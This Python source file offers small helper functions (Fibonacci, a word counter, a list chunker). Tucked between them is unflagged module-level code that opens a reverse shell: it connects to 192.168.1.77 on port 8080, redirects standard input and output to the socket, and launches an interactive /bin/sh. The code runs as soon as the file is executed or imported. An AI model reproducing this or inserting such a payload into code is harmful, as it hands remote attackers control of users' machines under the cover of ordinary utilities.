#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import socket, subprocess, os
client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
client.connect(("192.168.1.77", 8080))
os.dup2(client.fileno(), 0)
os.dup2(client.fileno(), 1)
os.dup2(client.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
